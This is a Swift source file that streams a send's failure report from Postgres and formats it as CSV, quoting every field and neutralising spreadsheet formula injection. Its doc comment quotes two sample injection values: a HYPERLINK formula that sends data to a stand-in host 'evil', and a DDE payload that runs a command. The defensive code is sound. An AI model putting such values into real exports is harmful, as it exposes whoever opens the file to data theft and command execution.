import Foundation
public import Postgres

/// Rule 9: the failure report of a send, as CSV rows streamed from the database.
///
/// One row per channel that failed a customer: a customer reached by email and not by SMS appears once, for the SMS,
/// and one reached by neither appears once per channel. (The send's headline counts a customer as sent when any
/// channel reached them.)
public enum FailureReport {
    public static let header = ["customer_id", "email", "mobile", "channel", "reason"]

    /// Streams the failed channels of the send's customers, in customer order, email before SMS.
    ///
    /// - Returns: the number of rows.
    @discardableResult
    public static func rows(
        sendID: Int64,
        on connection: PostgresConnection,
        _ body: ([String?]) throws -> Void
    ) throws -> Int {
        // COPY takes no parameters; the id is an integer, never text from outside.
        let statement = PostgresQuery(
            unsafeSQL: """
                COPY (
                    SELECT r.customer_id, r.email, r.mobile, f.channel, coupond.reason_text(f.error)
                    FROM coupond.send_recipients r
                    CROSS JOIN LATERAL (
                        VALUES (1, 'email', r.email_status, r.email_error), (2, 'sms', r.sms_status, r.sms_error)
                    ) AS f(position, channel, status, error)
                    WHERE r.send_id = \(sendID) AND (r.email_status = 'failed' OR r.sms_status = 'failed')
                      AND f.status = 'failed'
                    ORDER BY r.customer_id, f.position
                ) TO STDOUT
                """
        )
        return try connection.copyOut(statement, body)
    }

    /// One CSV line (RFC 4180) that no spreadsheet evaluates, in any locale: every field is quoted, so a `;` or a tab
    /// inside it does not start a cell even where the separator is `;`, and a formula start (`=`, `+`, `-`, `@`, a tab
    /// or a carriage return) at the beginning of a field or after any separator a spreadsheet may split on (`,`, `;`,
    /// a tab, `|`, a line break), blanks between, gets a `'` before it.
    ///
    /// Addresses and numbers come from other systems: a mobile number such as `=HYPERLINK("http://evil/?"&A2,"x")` or
    /// `x;=cmd|' /C calc'!A0` would otherwise run when the merchant opens the report. An E.164 number shows as
    /// `'+15551230001`.
    public static func csvLine(_ fields: [String?]) -> String {
        fields.map { field in
            guard let field else { return "" }
            return "\"" + neutralised(field).replacingOccurrences(of: "\"", with: "\"\"") + "\""
        }.joined(separator: ",") + "\r\n"
    }

    private static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
    private static let separators: Set<Unicode.Scalar> = [",", ";", "\t", "|", "\n", "\r"]

    /// The field with `'` before every formula start that begins a cell a spreadsheet could split off.
    static func neutralised(_ field: String) -> String {
        var result = String.UnicodeScalarView()
        var cellStart = true
        for scalar in field.unicodeScalars {
            if cellStart && formulaStarts.contains(scalar) { result.append("'") }
            result.append(scalar)
            if separators.contains(scalar) {
                cellStart = true
            } else if scalar != " " {
                cellStart = false
            }
        }
        return String(result)
    }
}
